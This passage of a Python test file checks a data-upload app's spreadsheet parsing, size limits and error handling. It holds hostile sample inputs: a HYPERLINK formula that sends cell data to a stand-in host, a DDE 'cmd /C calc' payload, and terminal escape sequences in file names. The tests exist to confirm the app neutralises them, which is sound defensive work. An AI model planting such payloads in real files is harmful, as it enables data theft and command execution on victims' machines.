    assert any("formula without a saved value: open and save the file in Excel" in p.message
               for p in english.errors)


def test_formula_with_its_saved_value_reads_the_value():
    """What Excel writes: the formula and the value it calculated; the value is read."""
    content = raw_xlsx(_header_row() + _risk_row_xml(skor='<c r="{ref}"><f>40+2</f><v>42</v></c>',
                                                     catatan='<c r="{ref}" t="str"><f>""</f>'
                                                             '<v></v></c>'))
    report = uploads.check_upload("conflict_risk", content, "excel.xlsx", "id")
    assert report.ok, report.text()
    assert report.frame.loc[0, "skor"] == 42 and report.frame.loc[0, "catatan"] == ""


def test_rich_text_nested_deeply_is_read_as_its_text():
    runs = "<r><rPr><b/></rPr><r><r><t>Kutai </t></r><r><t>Timur</t></r></r></r>"
    content = raw_xlsx(_header_row() + _risk_row_xml(kab_kota='<c r="{ref}" t="s"><v>0</v></c>',
                                                     catatan='<c r="{ref}" t="inlineStr"><is><r>'
                                                             '<r><t>ca</t></r><t>tat</t></r>'
                                                             '<rPh sb="0" eb="1"><t>x</t></rPh></is></c>'),
                       shared=f'<si>{runs}<rPh sb="0" eb="5"><t>ふりがな</t></rPh></si>')
    report = uploads.check_upload("conflict_risk", content, "kaya.xlsx", "id")
    assert report.ok, report.text()
    assert report.frame.loc[0, "kab_kota"] == "64.08"
    assert report.frame.loc[0, "catatan"] == "catat"


def test_formula_injection_is_stored_as_text_and_neutralised_on_export(data_dir, tmp_path,
                                                                       capsys):
    path = tmp_path / "rumus.csv"
    hyperlink = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
    path.write_bytes(_csv(catatan=hyperlink, sumber="@SUM(1+1)*cmd|' /C calc'!A0"))
    assert main.main(["import", "conflict_risk", str(path), "--user", "t"]) == 0
    capsys.readouterr()
    store = open_store()
    assert store.read("conflict_risk").frame["catatan"].tolist() == [hyperlink]
    exported, _ = formats.export_current("conflict_risk", "csv", "t", store)
    text = exported.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "'@SUM" in text
    workbook_bytes, _ = formats.export_current("conflict_risk", "xlsx", "t", store)
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes)).worksheets[0]
    values = [c.value for row in sheet.iter_rows() for c in row]
    assert not any(isinstance(v, str) and v.startswith(("=", "@")) for v in values)
    assert [c.data_type for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []


def test_bounded_reader_keeps_reading_an_ordinary_workbook_exactly():
    """The streaming sheet reader gives what openpyxl's own iteration gave: numbers, percent,
    dates, booleans, blank rows skipped, row numbers as in the file."""
    import datetime as dt

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["a", "b", "c", "d"])
    sheet.append([1, 0.5, dt.date(2026, 1, 18), True])
    sheet.append([])
    sheet.append(["x", 2.0, dt.datetime(2026, 1, 18, 7, 30), False])
    sheet["B2"].number_format = "0.0%"
    buffer = io.BytesIO()
    workbook.save(buffer)
    frame = readers.read_table(buffer.getvalue(), "x.xlsx").frame
    assert frame.index.tolist() == [2, 4]
    assert frame.loc[2].tolist() == ["1", "50", "2026-01-18", "TRUE"]
    assert frame.loc[4].tolist() == ["x", "2", "2026-01-18 07:30:00", "FALSE"]


# --- the upload limit on the Data page ---------------------------------------------------------

def test_upload_limit_is_stated_in_the_users_language_and_the_widget_lets_the_app_refuse(
        monkeypatch):
    from views import data as data_view

    monkeypatch.delenv(config.MAX_UPLOAD_MB.name, raising=False)
    text, widget_mb = data_view.upload_limits("id", 100)
    assert text.startswith("Batas ukuran berkas: 50 MB") and widget_mb == 100
    text, _ = data_view.upload_limits("en", 100)
    assert text.startswith("File size limit: 50 MB")
    monkeypatch.setenv(config.MAX_UPLOAD_MB.name, "10")
    assert data_view.upload_limits("id", 100)[1] == 20  # twice the app's limit
    monkeypatch.setenv(config.MAX_UPLOAD_MB.name, "500")
    assert data_view.upload_limits("id", 100)[1] == 100  # never above Streamlit's own cap


def test_streamlit_cap_is_above_the_apps_limit_so_its_english_refusal_is_not_the_one_seen():
    import tomllib

    streamlit_config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert streamlit_config["server"]["maxUploadSize"] >= 2 * config.MAX_UPLOAD_MB.default


def test_shared_strings_are_found_where_the_manifest_says():
    """The manifest may put the shared strings anywhere: read from there, never guessed, and
    scanned like any other part."""
    content = raw_xlsx(_header_row() + _risk_row_xml(kab_kota='<c r="{ref}" t="s"><v>0</v></c>'),
                       shared="<si><t>Paser</t></si>")
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            data = source.read(info).replace(b"sharedStrings.xml", b"teks.xml")
            name = info.filename.replace("sharedStrings.xml", "teks.xml")
            target.writestr(name, data)
    report = uploads.check_upload("conflict_risk", out.getvalue(), "teks.xlsx", "id")
    assert report.ok, report.text()
    assert report.frame.loc[0, "kab_kota"] == "64.01"


def test_control_characters_in_a_file_name_are_visible_in_every_command(data_dir, tmp_path,
                                                                        capsys):
    path = tmp_path / "lapor\x1b]0;judul\x07an.csv"
    path.write_bytes(_csv())
    assert main.main(["import", "conflict_risk", str(path), "--user", "t\x1b[31m"]) == 0
    for argv in (["history", "conflict_risk"], ["import", "conflict_risk", str(path), "--dry-run"],
                 ["import", "conflict_risk", str(tmp_path / "tidak\x1b[2Jada.csv")]):
        main.main(argv)
        captured = capsys.readouterr()
        out = captured.out + captured.err
        assert "\x1b" not in out and "\x07" not in out, argv
        assert "\\x1b" in out, argv


def test_an_unexpected_defect_is_a_refusal_with_a_message_not_a_traceback(monkeypatch, caplog):
    def broken(*_args, **_kwargs):
        raise RecursionError("a defect nobody foresaw")

    monkeypatch.setattr(readers, "_records_to_frame", broken)
    for lang, text in (("id", "kesalahan tak terduga"), ("en", "unexpected error")):
        report = uploads.check_upload("conflict_risk", _csv(), "x.csv", lang)
        assert not report.ok and [p.code for p in report.errors] == ["validate.unexpected"]
        assert text in report.errors[0].message
    assert "a defect nobody foresaw" in caplog.text  # the details go to the server log


def test_data_page_table_shortens_long_cell_values():
    from views import data as data_view

    report = uploads.check_upload("conflict_risk",
                                   csv_bytes([risk_row(kab_kota="x" * 100_000, kecamatan=str(i))
                                              for i in range(3)]), "x.csv", "id")
    table = data_view.problems_table(report.errors, "id")
    values = table[table.columns[3]].tolist()
    assert values and max(len(v) for v in values) <= 80 and values[0].endswith("…")


def test_long_cells_get_short_messages_without_fuzzy_matching():
    """A 100,000-character district, choice or header is no misspelling: the message quotes it
    shortened, and no near-miss search runs over it (that took ~30 ms a cell: 10 s for a 40 MB
    file of them)."""
    long = "Samarinda " * 10_000
    rows = [risk_row(kab_kota=long + str(i), tingkat_rawan=long + str(i), kecamatan=str(i))
            for i in range(5)]
    content = csv_bytes(rows).replace(b"sumber", (long + "x").encode(), 1)
    report = uploads.check_upload("conflict_risk", content, "x.csv", "id")
    assert {"validate.district", "validate.choice_unknown", "validate.missing_column"} <= set(
        _codes(report))
    assert max(len(p.message) for p in report.problems) < 2_000
    assert len(report.text()) < 20_000
